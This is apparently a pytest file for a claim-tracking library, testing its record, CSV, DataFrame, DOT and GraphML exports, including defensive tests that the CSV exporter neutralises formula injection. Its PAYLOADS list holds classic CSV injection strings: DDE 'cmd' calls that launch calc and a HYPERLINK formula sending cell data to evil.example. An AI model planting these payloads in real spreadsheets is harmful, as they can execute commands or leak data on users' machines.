"""
Tests for a tracker as records (to_records, to_dataframe, CSV) and as a
graph (to_dot, to_graphml).
"""

import csv
import io
import re
import sys
import types
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, reject
from hypothesis import strategies as st

import claimtrack as ct
from claimtrack import reports
from claimtrack._records import FORMULA_STARTS, clean, neutral

from .trackers import HOSTILE, trackers


AT = "2025-02-05T09:00:00+00:00"
LATER = "2025-02-06T09:00:00+00:00"
TEXT = "Rubio said the deal is agreed. Bukele said they were finalizing one."
G = "{http://graphml.graphdrawing.org/xmlns}"
NUMBER = re.compile(r"-?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
"""A plain number, as the tests read one, apart from the code's."""


@pytest.fixture(name="tracker")
def _tracker():
    t = ct.Tracker()
    t.declare(ct.Predicate("status", single_valued=True), by="ana", at=AT)
    wire = t.add_source(
        ct.Source(
            "wire",
            title="Wire story",
            publisher="AP",
            url="https://apnews.example/story",
            published="2025-02-04",
            language="en",
            text=TEXT,
        ),
        by="ana",
        at=AT,
    )
    t.add_source(
        ct.Source("reprint", publisher="Other", derived_from=("wire",)),
        by="ana",
        at=AT,
    )
    t.add_actor(
        ct.Actor(
            "rubio",
            "Marco Rubio",
            role="US Secretary of State",
            aliases=("Rubio",),
        ),
        by="ana",
        at=AT,
    )
    t.add_actor(
        ct.Actor("officials", role="US officials", kind="group"),
        by="ana",
        at=AT,
    )
    t.add_actor(
        ct.Actor("bukele", "Nayib Bukele", aliases=("Bukele",)),
        by="ana",
        at=AT,
    )
    t.add_claim(
        "The deal is agreed",
        speaker="Rubio",
        said="Monday",
        source=wire,
        quote="the deal is agreed",
        proposition=ct.Proposition("deal", "status", "agreed"),
        valid="Monday",
        reported_by=["officials"],
        tags=["deal", "us"],
        by="ana",
        at=AT,
    )
    t.add_claim(
        "The deal is being finalized",
        speaker="Bukele",
        said="February 2025",
        source=wire,
        quote="they were finalizing one",
        proposition=ct.Proposition("deal", "status", "finalizing"),
        valid="Monday",
        by="ana",
        at=AT,
    )
    t.add_claim(
        "Migration is the main issue", speaker="rubio", by="ana", at=AT
    )
    agreed, finalizing, undated = t.claims()
    t.corroborate(
        undated, evidence=finalizing, by="ana", at=AT, note="Bukele agrees"
    )
    t.corroborate(
        undated,
        evidence=["https://example.org/x", "reprint"],
        stance="context",
        by="ana",
        at=AT,
    )
    t.rate(agreed, "mostly-false", by="ed", at=AT, rationale="Not signed")
    t.rate(agreed, "false", by="ed", at=LATER)
    t.contradict(undated, agreed, by="ana", at=AT, note="Not the same")
    t.retract(undated, by="rubio", at=LATER)
    return t


def parse_csv(text):
    """
    Read CSV text back into dicts of strings.
    """
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv_cells(row):
    """
    A record's values as the csv module writes them.
    """
    return {k: "" if v is None else str(v) for k, v in row.items()}


class TestToRecords:
    """
    Records are plain rows, one per thing, with documented columns.
    """

    def test_claim_rows(self, tracker):
        """
        A claim's row holds its speaker, date, source, status and counts.
        """
        agreed, finalizing, undated = tracker.to_records()

        assert {
            "text": "The deal is agreed",
            "speaker": "rubio",
            "speaker_name": "Marco Rubio",
            "said": "2025-02-03",
            "said_precision": "day",
            "said_text": "Monday",
            "source": "wire",
            "quote": "the deal is agreed",
            "span_start": TEXT.index("the deal is agreed"),
            "reported_by": "officials",
            "subject": "deal",
            "predicate": "status",
            "object": "agreed",
            "polarity": "asserted",
            "valid": "2025-02-03",
            "tags": "deal; us",
            "status": "false",
            "verdicts": "mostly-false; false",
            "verdict": "false",
            "retracted": False,
            "contradictions": 2,
        }.items() <= agreed.items()
        assert {
            "speaker_name": "Nayib Bukele",
            "said": "2025-02",
            "said_precision": "month",
            "said_earliest": "2025-02-01",
            "said_latest": "2025-02-28",
            "said_text": "February 2025",
            "status": "disputed",
            "support": 1,
            "verdicts": "",
            "verdict": None,
        }.items() <= finalizing.items()
        assert {
            "said": None,
            "said_precision": None,
            "source": None,
            "quote": None,
            "subject": None,
            "status": "retracted",
            "support": 2,
            "refuting": 0,
            "evidence": 2,
            "retracted": True,
            "contradictions": 1,
        }.items() <= undated.items()

    @pytest.mark.parametrize("what", list(reports.COLUMNS))
    def test_columns_in_order(self, tracker, what):
        """
        Every row has exactly its kind's columns, in order, plain values.
        """
        rows = tracker.to_records(what)

        assert rows
        for row in rows:
            assert list(reports.COLUMNS[what]) == list(row)
            assert all(
                v is None or type(v) in (str, int, bool) for v in row.values()
            )

    def test_other_kinds(self, tracker):
        """
        Evidence, verdicts, contradictions, events, sources and actors.
        """
        evidence = tracker.to_records("evidence")
        verdicts = tracker.to_records("verdicts")
        contradictions = tracker.to_records("contradictions")
        sources = tracker.to_records("sources")
        actors = tracker.to_records("actors")
        events = tracker.to_records("events")

        assert [("supports", 1, "Bukele agrees"), ("context", 2, None)] == [
            (e["stance"], e["items"], e["note"]) for e in evidence
        ]
        assert "https://example.org/x" == evidence[1]["cited_urls"]
        assert "reprint" == evidence[1]["cited_sources"]
        assert [("mostly-false", False), ("false", True)] == [
            (v["label"], v["counts"]) for v in verdicts
        ]
        assert [
            ("value-conflict", "The deal is being finalized", None),
            ("explicit", "Migration is the main issue", "Not the same"),
        ] == [(c["kind"], c["other_text"], c["note"]) for c in contradictions]
        assert [("wire", 2, len(TEXT), "day"), ("reprint", 0, None, None)] == [
            (s["id"], s["claims"], s["text_length"], s["published_precision"])
            for s in sources
        ]
        assert [
            ("Marco Rubio", 2),
            ("US officials", 0),
            ("Nayib Bukele", 1),
        ] == [(a["label"], a["claims"]) for a in actors]
        assert [e.id for e in tracker.events()] == [e["id"] for e in events]

    @pytest.mark.parametrize("what", ["claim", "", None, 3])
    def test_unknown_kind(self, tracker, what):
        """
        Anything but a known kind is an InvalidValueError naming "what".
        """
        with pytest.raises(ct.InvalidValueError) as e:
            tracker.to_records(what)

        assert ("what", what) == (e.value.field, e.value.value)

    @pytest.mark.parametrize("what", list(reports.COLUMNS))
    def test_empty_tracker(self, what):
        """
        An empty tracker has no rows, and its CSV is the header alone.
        """
        tracker = ct.Tracker()

        assert [] == tracker.to_records(what)
        assert [list(reports.COLUMNS[what])] == list(
            csv.reader(io.StringIO(reports.to_csv(tracker, what)))
        )

    @given(trackers())
    def test_one_row_per_claim(self, tracker):
        """
        There is one claim row per claim, in order, and one per event.
        """
        assert [c.id for c in tracker] == [
            r["id"] for r in tracker.to_records()
        ]
        assert len(tracker.events()) == len(tracker.to_records("events"))

    @given(trackers())
    def test_csv_round_trip(self, tracker):
        """
        Every kind of record reads back from its raw CSV as it was written.
        """
        for what in reports.COLUMNS:
            rows = tracker.to_records(what)
            text = reports.to_csv(tracker, what, raw=True)

            assert [as_csv_cells(r) for r in rows] == parse_csv(text)

    def test_csv_unknown_kind(self, tracker):
        """
        to_csv refuses an unknown kind, as to_records does.
        """
        with pytest.raises(ct.InvalidValueError):
            reports.to_csv(tracker, "claimz")


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5 percent",
    "-",
    "+5",
]
"""The classic CSV injection payloads, and text that only looks numeric."""

formula_texts = st.tuples(
    st.sampled_from([*FORMULA_STARTS, "", "'", " ", "-1", "-1e"]),
    st.text(st.characters(codec="utf-8"), max_size=20),
).map("".join)
"""Text that often starts as a formula does."""


def csv_cells(text):
    """
    Every cell of CSV text but its header row.
    """
    return [cell for row in parse_csv(text) for cell in row.values()]


class TestCsvFormulas:
    """
    No text cell of a CSV starts as a formula, unless raw; numbers stay.
    """

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_classic_payloads(self, payload):
        """
        A payload in a claim, a name, a tag, a note and an id is written
        with a quote before it, and as it is when raw.
        """
        t = ct.Tracker()
        t.add_actor(ct.Actor("a", payload, role=payload), by="a", at=AT)
        claim = t.add_claim(
            payload, speaker="a", tags=[payload], id=payload, by="a", at=AT
        )
        t.corroborate(
            claim, evidence="https://x.example/", note=payload, by="a", at=AT
        )
        t.rate(claim, "false", rationale=payload, by="a", at=AT)

        for what in reports.COLUMNS:
            cells = csv_cells(reports.to_csv(t, what))
            raw = csv_cells(reports.to_csv(t, what, raw=True))

            assert payload not in cells
            assert (payload in raw) == ("'" + payload in cells), what
        assert {"'" + payload} == {
            parse_csv(reports.to_csv(t))[0][column]
            for column in ("id", "text", "speaker_name", "tags")
        }

    @pytest.mark.parametrize(
        ("value", "written"),
        [
            ("-5", "-5"),
            ("-2.5", "-2.5"),
            ("-1e3", "-1e3"),
            ("-.5", "-.5"),
            ("-5.", "-5."),
            ("-1E-3", "-1E-3"),
            ("-5 percent", "'-5 percent"),
            ("-5%", "'-5%"),
            ("-1+1", "'-1+1"),
            ("-1e", "'-1e"),
            ("-", "'-"),
            ("--5", "'--5"),
            ("-٣", "'-٣"),
            ("-5\n", "'-5\n"),
            ("+5", "'+5"),
            ("@5", "'@5"),
            ("'=1", "'=1"),
            (" =1", " =1"),
            ("5-1", "5-1"),
            ("", ""),
            (-5, -5),
            (-2.5, -2.5),
            (True, True),
            (None, None),
        ],
    )
    def test_neutral(self, value, written):
        """
        Text that starts as a formula gets a quote; a plain number, text
        or not, stays as it is.
        """
        assert written == neutral(value)

    def test_negative_quantity_stays_a_number(self):
        """
        A negative quantity's value is written as the number it is, and
        one with a unit, which is text, gets the quote.
        """
        t = ct.Tracker()
        t.add_actor(ct.Actor("a", "A"), by="a", at=AT)
        for n, thing in enumerate([-5, ct.Quantity(-5, "percent")]):
            t.add_claim(
                "Spending changed",
                speaker="a",
                id=f"c{n}",
                proposition=ct.Proposition("spending", "changed_by", thing),
                by="a",
                at=AT,
            )

        rows = parse_csv(reports.to_csv(t))

        assert ["-5", "'-5 percent"] == [r["object"] for r in rows]

    def test_raw_must_be_a_bool(self, tracker):
        """
        raw is True or False, nothing else.
        """
        with pytest.raises(ct.InvalidTypeError) as e:
            reports.to_csv(tracker, raw="yes")

        assert ("raw", "yes") == (e.value.field, e.value.value)

    @given(formula_texts)
    def test_any_text_round_trips(self, text):
        """
        Any claim text reads back from the CSV as it was, or with one
        quote before it; it never starts as a formula unless raw or a
        plain number.
        """
        t = ct.Tracker()
        t.add_actor(ct.Actor("a", "A"), by="a", at=AT)
        try:
            claim = t.add_claim(text, speaker="a", id="c", by="a", at=AT)
        except ct.ClaimtrackError:
            reject()  # text the model refuses is not the CSV's concern

        written = parse_csv(reports.to_csv(t))[0]["text"]
        raw = parse_csv(reports.to_csv(t, raw=True))[0]["text"]

        assert claim.text == raw
        assert written in (claim.text, "'" + claim.text)
        assert (written == claim.text) == (
            not claim.text.startswith(FORMULA_STARTS)
            or NUMBER.fullmatch(claim.text) is not None
        )

    @given(trackers())
    def test_no_cell_starts_as_a_formula(self, tracker):
        """
        In every kind of record, each cell is its raw cell or that with a
        quote before it, and none starts as a formula but a plain number.
        """
        for what in reports.COLUMNS:
            cells = csv_cells(reports.to_csv(tracker, what))
            raw = csv_cells(reports.to_csv(tracker, what, raw=True))

            for cell, as_is in zip(cells, raw, strict=True):
                assert cell in (as_is, "'" + as_is)
                assert (
                    not cell.startswith(FORMULA_STARTS)
                    or NUMBER.fullmatch(cell) is not None
                )


class TestToDataframe:
    """
    to_dataframe gives pandas a DataFrame, or says pandas is missing.
    """

    def test_without_pandas(self, tracker, monkeypatch):
        """
        Without pandas, a MissingDependencyError that is an ImportError.
        """
        monkeypatch.setitem(sys.modules, "pandas", None)

        with pytest.raises(ImportError) as e:
            tracker.to_dataframe()

        assert isinstance(e.value, ct.MissingDependencyError)
        assert isinstance(e.value, ct.ClaimtrackError)
        assert ("module", "pandas", "pandas") == (
            e.value.field,
            e.value.value,
            e.value.name,
        )
        assert "pip install" in str(e.value)

    def test_unknown_kind_first(self, tracker, monkeypatch):
        """
        An unknown kind is reported even when pandas is missing.
        """
        monkeypatch.setitem(sys.modules, "pandas", None)

        with pytest.raises(ct.InvalidValueError):
            tracker.to_dataframe("nothing")

    def test_builds_from_records(self, tracker, monkeypatch):
        """
        The DataFrame is built from the records, with every column.
        """
        made = []
        fake = types.ModuleType("pandas")
        fake.DataFrame = types.SimpleNamespace(
            from_records=lambda rows, columns: (
                made.append((rows, columns)) or "frame"
            )
        )
        monkeypatch.setitem(sys.modules, "pandas", fake)

        assert "frame" == tracker.to_dataframe("verdicts")
        assert [
            (tracker.to_records("verdicts"), list(reports.COLUMNS["verdicts"]))
        ] == made

    def test_with_pandas(self, tracker):
        """
        With pandas installed, a real DataFrame: a row per claim.
        """
        pd = pytest.importorskip("pandas")

        frame = tracker.to_dataframe()

        assert isinstance(frame, pd.DataFrame)
        assert list(reports.COLUMNS["claims"]) == list(frame.columns)
        assert [c.id for c in tracker] == list(frame["id"])
        assert 0 == len(ct.Tracker().to_dataframe("events"))


# -- DOT ---------------------------------------------------------------------

TOKEN = re.compile(
    r'\s*(?:(?P<string>"(?:[^"\\]|\\.)*")|(?P<arrow>->)'
    r"|(?P<word>[A-Za-z0-9_.]+)|(?P<mark>[{}\[\]=,;]))",
    re.DOTALL,
)


def dot_tokens(text):
    """
    Split DOT text into tokens; a quoted string is unescaped.
    """
    tokens, at = [], 0
    while text[at:].strip():
        m = TOKEN.match(text, at)
        assert m, f"bad DOT at {text[at : at + 40]!r}"
        if m["string"]:
            body = m["string"][1:-1]
            tokens.append(
                (
                    "string",
                    re.sub(
                        r"\\(.)",
                        lambda e: "\n" if e[1] == "n" else e[1],
                        body,
                        flags=re.DOTALL,
                    ),
                )
            )
        else:
            tokens.append(("mark", m[0].strip()))
        at = m.end()
    return tokens


def parse_dot(text):
    """
    Read a DOT digraph into its nodes and edges, each with attributes.
    """
    tokens = dot_tokens(text)
    assert [("mark", "digraph"), ("mark", "claims"), ("mark", "{")] == tokens[
        :3
    ]
    assert ("mark", "}") == tokens[-1]
    nodes, edges, defaults = {}, [], {}
    statements, current = [], []
    for token in tokens[3:-1]:
        if token == ("mark", ";"):
            statements.append(current)
            current = []
        else:
            current.append(token)
    assert [] == current
    for statement in statements:
        head = []
        while statement and statement[0] != ("mark", "["):
            head.append(statement.pop(0))
        assert ("mark", "]") == statement[-1]
        attributes, body = {}, statement[1:-1]
        for k in range(0, len(body), 4):
            name, eq, value = body[k : k + 3]
            assert ("mark", "=") == eq
            attributes[name[1]] = value[1]
            assert body[k + 3 : k + 4] in ([], [("mark", ",")])
        if head[0][0] == "mark":
            defaults[head[0][1]] = attributes
        elif len(head) == 1:
            nodes[head[0][1]] = attributes
        else:
            assert ("mark", "->") == head[1]
            edges.append((head[0][1], head[2][1], attributes))
    assert {"graph", "node", "edge"} == set(defaults)
    return nodes, edges


class TestToDot:
    """
    to_dot writes a Graphviz digraph: a node per claim, an edge per link.
    """

    def test_nodes_and_edges(self, tracker):
        """
        Nodes are claims with their data; edges say how claims relate.
        """
        agreed, finalizing, undated = tracker.claims()

        nodes, edges = parse_dot(tracker.to_dot())

        assert [agreed.id, finalizing.id, undated.id] == list(nodes)
        assert {
            "label": "C1 (false)\nThe deal is agreed",
            "speaker": "rubio",
            "speaker_name": "Marco Rubio",
            "status": "false",
            "said": "2025-02-03",
            "said_precision": "day",
            "support": "1",
        }.items() <= nodes[agreed.id].items()
        assert [
            (finalizing.id, undated.id, "supports", None, None),
            (
                agreed.id,
                finalizing.id,
                "contradicts",
                "value-conflict",
                "none",
            ),
            (agreed.id, undated.id, "contradicts", "explicit", "none"),
        ] == [
            (a, b, e["relation"], e.get("kind"), e.get("dir"))
            for a, b, e in edges
        ]

    def test_subset(self, tracker):
        """
        claims= keeps those claims and only the links between them.
        """
        agreed, finalizing, _ = tracker.claims()

        nodes, edges = parse_dot(
            tracker.to_dot(claims=[agreed, finalizing.id])
        )

        assert [agreed.id, finalizing.id] == list(nodes)
        assert ["contradicts"] == [e["relation"] for _, _, e in edges]

    def test_refuting_evidence_drawn_once(self, tracker):
        """
        A claim cited as refuting evidence is one "refutes" edge.
        """
        agreed, finalizing, _ = tracker.claims()
        tracker.corroborate(agreed, evidence=finalizing, stance="refutes")

        _, edges = parse_dot(tracker.to_dot(claims=[agreed, finalizing]))

        assert ["refutes", "contradicts"] == [
            e["relation"] for _, _, e in edges
        ]
        assert ["refuting-evidence", "value-conflict"] == sorted(
            c.kind.value for c in tracker.contradictions(agreed)[:2]
        )

    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_escaping(self, hostile):
        """
        Any text, with quotes, backslashes and newlines, reads back.
        """
        t = ct.Tracker()
        t.add_actor(ct.Actor("a", hostile))
        claim = t.add_claim(hostile, speaker="a", id=hostile)

        nodes, _ = parse_dot(t.to_dot())

        expected = clean(hostile).replace("\r\n", "\n")
        assert [expected] == list(nodes)
        assert expected == nodes[expected]["text"]
        assert expected == nodes[expected]["speaker_name"]
        assert claim.id == hostile

    @given(trackers())
    def test_one_node_per_claim(self, tracker):
        """
        Every claim is a node; every edge joins two of them.
        """
        nodes, edges = parse_dot(tracker.to_dot())

        assert len(tracker) == len(nodes)
        assert all(a in nodes and b in nodes for a, b, _ in edges)


# -- GraphML -----------------------------------------------------------------


def check_graphml(text):
    """
    Parse GraphML and check its structure; return nodes and edges.
    """
    root = ET.fromstring(text.encode("utf-8"))  # noqa: S314 -- our own output
    assert f"{G}graphml" == root.tag
    children = list(root)
    keys = {k.get("id"): k for k in root.findall(f"{G}key")}
    assert len(keys) == len(root.findall(f"{G}key"))
    assert [f"{G}key"] * len(keys) + [f"{G}graph"] == [c.tag for c in children]
    for key in keys.values():
        assert key.get("for") in ("node", "edge", "graph", "all")
        assert key.get("attr.type") in (
            "boolean",
            "int",
            "long",
            "float",
            "double",
            "string",
        )
    (graph,) = root.findall(f"{G}graph")
    assert graph.get("edgedefault") in ("directed", "undirected")
    nodes, edges = {}, []
    for element in graph:
        data = {}
        for d in element.findall(f"{G}data"):
            key = keys[d.get("key")]
            assert key.get("for") in (element.tag.removeprefix(G), "all")
            if key.get("attr.type") == "int":
                int(d.text)
            data[d.get("key")] = d.text or ""
        if element.tag == f"{G}node":
            assert element.get("id") not in nodes
            nodes[element.get("id")] = data
        else:
            assert f"{G}edge" == element.tag
            edges.append((element.get("source"), element.get("target"), data))
            assert element.get("directed") in (None, "true", "false")
    assert all(a in nodes and b in nodes for a, b, _ in edges)
    return nodes, edges


class TestToGraphml:
    """
    to_graphml writes well-formed GraphML with declared keys.
    """

    def test_structure(self, tracker):
        """
        A node per claim with its data, an edge per link.
        """
        agreed, finalizing, undated = tracker.claims()

        nodes, edges = check_graphml(tracker.to_graphml())

        assert [agreed.id, finalizing.id, undated.id] == list(nodes)
        assert {
            "number": "2",
            "label": "C2",
            "text": "The deal is being finalized",
            "said": "2025-02",
            "said_precision": "month",
            "status": "disputed",
        }.items() <= nodes[finalizing.id].items()
        assert "said" not in nodes[undated.id]
        assert [
            (finalizing.id, undated.id, "supports"),
            (agreed.id, finalizing.id, "contradicts"),
            (agreed.id, undated.id, "contradicts"),
        ] == [(a, b, e["relation"]) for a, b, e in edges]
        assert "Bukele agrees" == edges[0][2]["note"]

    def test_undirected_contradictions(self, tracker):
        """
        Contradiction edges are marked undirected; evidence edges are not.
        """
        root = ET.fromstring(tracker.to_graphml())  # noqa: S314 -- our own output

        assert [None, "false", "false"] == [
            e.get("directed") for e in root.iter(f"{G}edge")
        ]

    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_escaping(self, hostile):
        """
        Any text is kept, minus what XML cannot hold at all.
        """
        t = ct.Tracker()
        t.add_actor(ct.Actor("a", hostile))
        t.add_claim(hostile, speaker="a", id=hostile)

        nodes, _ = check_graphml(t.to_graphml())

        expected = clean(hostile).replace("\r\n", "\n")
        assert [clean(hostile)] == list(nodes)
        assert expected == nodes[clean(hostile)]["text"]

    @given(trackers())
    def test_one_node_per_claim(self, tracker):
        """
        GraphML parses and has one node per claim, the claims' ids.
        """
        nodes, _ = check_graphml(tracker.to_graphml())

        assert [clean(c.id) for c in tracker] == list(nodes)


class TestClaimsArgument:
    """
    claims= takes a list of claims or ids, and refuses anything else.
    """

    @pytest.mark.parametrize("bad", ["a-claim-id", 3])
    def test_not_a_list(self, tracker, bad):
        """
        One id, or something not iterable, is an InvalidTypeError.
        """
        with pytest.raises(ct.InvalidTypeError) as e:
            tracker.to_graphml(claims=bad)

        assert "claims" == e.value.field

    def test_one_claim(self, tracker):
        """
        One Claim, not in a list, is an InvalidTypeError too.
        """
        with pytest.raises(ct.InvalidTypeError):
            tracker.to_dot(claims=tracker.claims()[0])

    def test_unknown(self, tracker):
        """
        An id that is not a claim's is an UnknownClaimError.
        """
        with pytest.raises(ct.UnknownClaimError):
            tracker.to_dot(claims=["nope"])
